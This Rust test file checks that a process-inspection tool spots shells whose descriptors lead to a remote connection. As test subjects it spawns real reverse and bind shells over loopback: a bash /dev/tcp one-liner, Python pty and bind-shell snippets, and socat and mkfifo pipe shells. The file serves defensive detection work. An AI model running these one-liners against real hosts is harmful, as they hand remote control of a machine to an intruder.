//! Real shells in somebody's hand, and real shells that are not: what a look says of their descriptors.
//!
//! Talks to itself over loopback only.
#![allow(clippy::unwrap_used, reason = "a test that cannot go on stops")]

use std::{
    io::{BufRead as _, BufReader, Read as _},
    net::{SocketAddr, TcpListener, TcpStream},
    process::{Child, Command, Stdio},
    sync::{Mutex, MutexGuard, PoisonError},
};

use minesweep_host::{
    look::{LookLimits, look},
    proc,
};
use minesweep_model::StdioKind;

/// One test at a time: a connection that one has open would be another's, to whose shell this process holds the pipe.
fn alone() -> MutexGuard<'static, ()> {
    static ALONE: Mutex<()> = Mutex::new(());
    ALONE.lock().unwrap_or_else(PoisonError::into_inner)
}

/// A process that is ended, with all it started in its group, when the test is over.
struct Group(Child);

impl Drop for Group {
    fn drop(&mut self) {
        let group = rustix::process::Pid::from_child(&self.0);
        let _it_may_have_ended = rustix::process::kill_process_group(group, rustix::process::Signal::KILL);
        let _reaped = self.0.wait();
    }
}

fn start(program: &str, args: &[&str]) -> Group {
    use std::os::unix::process::CommandExt as _;
    let mut command = Command::new(program);
    command.args(args).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).process_group(0);
    Group(command.spawn().unwrap())
}

/// Asks a shell for its pid, over what it reads and writes.
fn pid_of(mut to: impl std::io::Write, from: impl std::io::Read) -> u32 {
    // The sum keeps an echo of the line from being taken for the answer.
    to.write_all(b"echo pid=$(($$+0))=\n").unwrap();
    for line in BufReader::new(from).lines() {
        let line = line.unwrap();
        let answer = line.split("pid=").skip(1).find_map(|rest| rest.split('=').next()?.parse().ok());
        if let Some(pid) = answer {
            return pid;
        }
    }
    panic!("the shell said nothing");
}

fn stdio_of(pid: u32) -> Vec<minesweep_model::Stdio> {
    let limits = LookLimits { executable_bytes: 0, files: 0, file_bytes: 0, memory_bytes: 0 };
    look(proc::key(pid).unwrap(), limits, &mut |_| {}).unwrap().stdio
}

struct Caller {
    stream: TcpStream,
    /// The shell's end.
    far: SocketAddr,
    here: SocketAddr,
    _group: Group,
}

/// Runs something that calls back, and takes the call.
fn call(program: &str, args: impl Fn(u16) -> Vec<String>) -> Caller {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let here = listener.local_addr().unwrap();
    let args = args(here.port());
    let group = start(program, &args.iter().map(String::as_str).collect::<Vec<_>>());
    let (stream, far) = listener.accept().unwrap();
    Caller { stream, far, here, _group: group }
}

#[test]
fn a_shell_over_dev_tcp_has_the_connection_on_each_descriptor() {
    let _alone = alone();
    let caller = call("/bin/bash", |port| {
        vec!["-c".into(), format!("bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/{port} 0>&1")]
    });
    let stdio = stdio_of(pid_of(&caller.stream, &caller.stream));
    assert_eq!(stdio.len(), 3);
    for one in &stdio {
        assert_eq!((one.kind, one.remote), (StdioKind::Tcp, Some(caller.here)));
    }
}

#[test]
fn a_terminal_that_python_serves_names_python_and_its_connection() {
    let _alone = alone();
    let code = "import socket,os,pty,sys\ns=socket.create_connection((\"127.0.0.1\",int(sys.argv[1])))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn(\"/bin/sh\")";
    let caller = call("python3", |port| vec!["-c".into(), code.into(), port.to_string()]);
    let stdio = stdio_of(pid_of(&caller.stream, &caller.stream));
    assert!(stdio.iter().all(|one| one.kind == StdioKind::Pty), "{stdio:?}");
    let relay = stdio.first().unwrap().relays.first().unwrap();
    assert!(relay.exe.contains("python3"), "{relay:?}");
    assert_eq!((relay.remote, relay.is_accepted), (caller.here, false));
    assert_ne!(caller.far, caller.here);
}

#[test]
fn a_named_pipe_to_a_tool_with_a_connection_names_the_tool() {
    let _alone = alone();
    let folder = tempfile::tempdir().unwrap();
    let pipe = folder.path().join("f").to_str().unwrap().to_owned();
    let caller = call("/bin/sh", |port| {
        vec![
            "-c".into(),
            format!("mkfifo {pipe}; cat {pipe} | /bin/sh -i 2>&1 | socat - TCP:127.0.0.1:{port} > {pipe}"),
        ]
    });
    let stdio = stdio_of(pid_of(&caller.stream, &caller.stream));
    assert!(stdio.iter().all(|one| one.kind == StdioKind::Pipe), "{stdio:?}");
    let relay = stdio.iter().flat_map(|one| &one.relays).next().unwrap();
    assert!(relay.exe.contains("socat"), "{relay:?}");
    assert_eq!(relay.remote, caller.here);
}

#[test]
fn socat_with_a_terminal_and_without_is_named() {
    let _alone = alone();
    for options in ["", ",pty,setsid,ctty"] {
        let caller =
            call("socat", |port| vec![format!("TCP:127.0.0.1:{port}"), format!("EXEC:/bin/sh{options}")]);
        let stdio = stdio_of(pid_of(&caller.stream, &caller.stream));
        let first = stdio.first().unwrap();
        let kind = if options.is_empty() { StdioKind::Socket } else { StdioKind::Pty };
        assert_eq!(first.kind, kind);
        assert!(first.relays.first().unwrap().exe.contains("socat"), "{stdio:?}");
    }
}

#[test]
fn a_shell_that_waits_for_a_caller_names_him() {
    let _alone = alone();
    let probe = TcpListener::bind("127.0.0.1:0").unwrap();
    let at = probe.local_addr().unwrap();
    drop(probe);
    let code = "import socket,os,sys\ns=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\ns.bind((\"127.0.0.1\",int(sys.argv[1])));s.listen(1);print(\"ready\",flush=True)\nc,_=s.accept()\n[os.dup2(c.fileno(),f) for f in (0,1,2)]\nos.execv(\"/bin/sh\",[\"sh\"])";
    let mut command = Command::new("python3");
    command.args(["-c", code, &at.port().to_string()]).stdout(Stdio::piped());
    use std::os::unix::process::CommandExt as _;
    let mut child = command.process_group(0).spawn().unwrap();
    let mut ready = [0; 5];
    child.stdout.as_mut().unwrap().read_exact(&mut ready).unwrap();
    let group = Group(child);
    let stream = TcpStream::connect(at).unwrap();
    let stdio = stdio_of(pid_of(&stream, &stream));
    assert_eq!(stdio.first().unwrap().remote, Some(stream.local_addr().unwrap()));
    drop(group);
}

#[test]
fn a_recorded_terminal_and_a_piped_shell_of_this_machine_are_in_nobodys_hand() {
    let _alone = alone();
    use std::os::unix::process::CommandExt as _;
    for (program, args) in [("script", vec!["-qc", "/bin/sh", "/dev/null"]), ("/bin/sh", vec![])] {
        let mut command = Command::new(program);
        command.args(args).stdin(Stdio::piped()).stdout(Stdio::piped()).process_group(0);
        let mut child = command.spawn().unwrap();
        let (to, from) = (child.stdin.take().unwrap(), child.stdout.take().unwrap());
        let group = Group(child);
        let stdio = stdio_of(pid_of(&to, from));
        assert!(
            stdio.iter().all(|one| one.remote.is_none() && one.relays.is_empty()),
            "{program}: {stdio:?}"
        );
        drop(group);
    }
}
